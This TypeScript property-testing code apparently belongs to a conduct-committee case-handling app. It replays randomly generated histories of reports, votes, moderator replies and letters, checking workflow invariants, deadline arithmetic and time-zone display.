/** Deadlines are instants N×24 h after receipt, whatever the zone's DST does; sheet times are shown in the committee's zone. */
function timeChecks(r: Rehearsal, zone: string): string[] {
  const out: string[] = [];
  const fmt = new Intl.DateTimeFormat('en-CA', {
    timeZone: zone,
    year: 'numeric',
    month: '2-digit',
    day: '2-digit',
    hour: '2-digit',
    minute: '2-digit',
    hourCycle: 'h23',
  });
  const status = r.status();
  for (const c of r.registry('Cases')) {
    const received = Date.parse(c['Received At']);
    let deadlines: { acknowledgeBy?: string; followUpBy?: string; followUpDays?: number };
    try {
      deadlines = JSON.parse(c.Deadlines);
    } catch {
      out.push(`case ${c['Case ID']} has unreadable deadlines`);
      continue;
    }
    const follow = Date.parse(deadlines.followUpBy ?? '');
    if (deadlines.followUpDays && follow - received !== deadlines.followUpDays * DAY)
      out.push(
        `follow-up deadline of ${c['Case ID']} is ${(follow - received) / HOUR} h after receipt, not ${deadlines.followUpDays * 24} h`,
      );
    const ack = Date.parse(deadlines.acknowledgeBy ?? '');
    if (!(ack > received)) out.push(`acknowledgment deadline of ${c['Case ID']} is not after receipt`);
    const row = status.find((s) => (s['Code Name'] ?? '').trim().toLowerCase() === c['Code Name'].toLowerCase());
    const shown = row?.['Date & Time'];
    if (shown && /^\d{4}-\d\d-\d\d \d\d:\d\d$/.test(shown)) {
      const parts = Object.fromEntries(fmt.formatToParts(new Date(received)).map((p) => [p.type, p.value]));
      const expected = `${parts.year}-${parts.month}-${parts.day} ${parts.hour}:${parts.minute}`;
      if (shown !== expected) out.push(`case ${c['Code Name']} shows ${shown}, received ${expected} in ${zone}`);
    }
  }
  return out;
}

/** Plays one generated history on a fresh committee; returns every violation seen after any step, and after settling. */
export function playHistory(h: History, inspect?: (r: Rehearsal) => void): PlayOutcome {
  const r = Rehearsal.start({
    start: h.clock.start,
    timeZone: h.clock.zone,
    spaces: [{ name: SPACE, moderators: MODERATORS }],
    settings: { 'Escalation contact': 'board@example.org' },
    noGoogleAccount: h.committee.filter((m) => !m.googleAccount).map((m) => m.email),
    seed: h.faultSeed,
    check: false,
  });
  r.throwOnViolation = false;
  r.addMembers(h.committee);
  r.check('the committee is entered');
  r.ws.rt.faults = faultsFor(h);
  let played = 0;
  for (const [i, step] of h.steps.entries()) {
    const before = r.ws.rt.executions.length;
    playStep(r, step, h.clock.zone);
    // A report whose trigger failed (a fault, a busy lock) waits for the sweep; everything else must hold now.
    noteFailedIntakes(r, before);
    r.check(`step ${i + 1} (${step.kind})`);
    played++;
  }
  r.checkEveryStep = true;
  // Settle: Google behaves again, time passes, the sweep catches up; then nothing may be unfinished.
  r.ws.rt.faults = [];
  r.advance(10 * 60 * 1000);
  r.sweep();
  r.k.unfinishedResponses.clear();
  r.check('settling');
  inspect?.(r);
  return { violations: [...new Set(r.violations)], played, checks: timeChecks(r, h.clock.zone) };
}

// ---------------------------------------------------------------------------------------------------
// The whole procedure for one case, driven forward with random people and choices

const interleaved: fc.Arbitrary<Step> = fc.oneof(
  stepArbs.advance,
  stepArbs.week,
  stepArbs.sheet,
  stepArbs.scan,
  stepArbs.respond,
  stepArbs.casePageConflict,
  stepArbs.roster,
  stepArbs.writeDoc,
  stepArbs.busy,
  stepArbs.caseOp,
  stepArbs.reply,
  stepArbs.drift,
);

/** The procedure in order for case 1, with random people and choices, and random steps inserted anywhere. */
export const procedureArb: fc.Arbitrary<History> = fc
  .record({
    base: historyArb(fc.constant({ kind: 'blank' } as Step), { minSteps: 0, maxSteps: 0 }),
    // Up to eight members here (every member answers and votes: the history grows with the committee); the
    // other property files cover committees of up to twelve.
    committee: committeeArb.map((c) => c.slice(0, 8)),
    report: reportArb,
    answers: fc.array(fc.constantFrom('no-conflict' as const, 'no-conflict' as const, 'conflict' as const), {
      minLength: 12,
      maxLength: 12,
    }),
    writer: fc.nat({ max: 11 }),
    texts: fc.array(stepArbs.writeDoc, { minLength: 4, maxLength: 4 }),
    votes: fc.array(
      fc.constantFrom(
        'approve' as const,
        'approve' as const,
        'approve' as const,
        'reject' as const,
        'abstain' as const,
      ),
      { minLength: 12, maxLength: 12 },
    ),
    moderators: fc.array(fc.constantFrom('accept' as const, 'accept' as const, 'disagree' as const), {
      minLength: 2,
      maxLength: 2,
    }),
    extra: fc.array(fc.tuple(fc.nat({ max: 40 }), interleaved), { maxLength: 4 }),
    // At the end people answer the committee's emails (the reporter the follow-up, the reported person the letter, a
    // moderator the recommendation; the settling sweep files each under the case) and press the case page's other
    // actions (waive or forget, escalate, record an override, a meeting…).
    tail: fc.array(fc.oneof(stepArbs.reply, stepArbs.caseOp, stepArbs.drift), { maxLength: 3 }),
    // After the letter, sometimes a further-response round (issue 14), its revised text written by someone.
    round: fc.option(fc.record({ text: textArb, closing: fc.boolean() }), { nil: undefined }),
    clock: fc.constantFrom(...CLOCKS),
  })
  .map((x) => {
    const n = x.committee.length;
    const sections = ['plan', 'consequences', 'letter', 'followUp'] as const;
    const steps: Step[] = [
      {
        kind: 'report',
        report: { ...x.report, answers: { ...x.report.answers, 'Where did it happen?': 'Discourse' } },
      },
      ...x.committee.map((_, i) => ({ kind: 'respond' as const, member: i, kase: 1, answer: x.answers[i] })),
      // The letter needs its impact paragraph (issue 14: "Send" is not offered without each required part).
      ...x.texts.map((t, i) => ({
        ...t,
        member: x.writer % n,
        kase: 1,
        section: sections[i],
        text: sections[i] === 'letter' ? `${t.text}\nImpact: ${t.text}` : t.text,
      })),
      { kind: 'openVote', member: x.writer % n, kase: 1 },
      ...x.committee.map((_, i) => ({ kind: 'vote' as const, member: i, kase: 1, choice: x.votes[i] })),
      { kind: 'recommend', member: x.writer % n, kase: 1 },
      ...x.moderators.map((answer, i) => ({ kind: 'moderator' as const, moderator: i, kase: 1, answer })),
      { kind: 'letter', member: x.writer % n, kase: 1 },
      { kind: 'followUp', member: x.writer % n, kase: 1 },
    ];
    if (x.round) {
      const w = x.writer % n;
      steps.push(
        { kind: 'caseOp', member: (w + 1) % n, kase: 1, op: 'new-round' },
        { kind: 'writeDoc', member: w, kase: 1, section: 'consequences', text: x.round.text, mention: 'none' },
        // A second round either revises the response, or (rarely) puts closing it to the vote.
        x.round.closing
          ? { kind: 'caseOp', member: w, kase: 1, op: 'bad-faith' }
          : { kind: 'openVote', member: w, kase: 1 },
        ...x.committee.map((_, i) => ({ kind: 'vote' as const, member: i, kase: 1, choice: x.votes[i] })),
        { kind: 'recommend', member: w, kase: 1 },
        ...x.moderators.map((answer, i) => ({ kind: 'moderator' as const, moderator: i, kase: 1, answer })),
        { kind: 'letter', member: w, kase: 1 },
        { kind: 'followUp', member: w, kase: 1 },
      );
    }
    steps.push(...x.tail.map((step) => ({ ...step, kase: 1 })));
    for (const [at, step] of x.extra) steps.splice(at % (steps.length + 1), 0, step);
    return { ...x.base, clock: x.clock, committee: x.committee, steps };
  });

/**
 * Plays `share` of the CI's property runs over histories drawn from `histories`, failing with every §7 violation
 * and outcome check of the first failing history (fast-check prints its seed and path), and records the figures.
 */
export function assertInvariantsOverHistories(file: string, share: number, histories: fc.Arbitrary<History>): void {
  const params = propertyParameters(share);
  let runs = 0;
  let stepsPlayed = 0;
  // A digest of every history drawn: two runs on the same seed must print the same one (issue 20's check).
  const digest = createHash('sha256');
  fc.assert(
    fc.property(histories, (history) => {
      digest.update(JSON.stringify(history));
      const outcome = playHistory(history);
      runs++;
      stepsPlayed += outcome.played;
      const problems = [...outcome.violations, ...outcome.checks];
      if (problems.length) throw new Error(`${problems.length} problem(s):\n${problems.join('\n')}`);
    }),
    params,
  );
  recordFigure('properties', { file, runs, steps: stepsPlayed, histories: digest.digest('hex').slice(0, 16) });
  if (runs !== params.numRuns) throw new Error(`${file}: played ${runs} of ${params.numRuns} runs`);
}
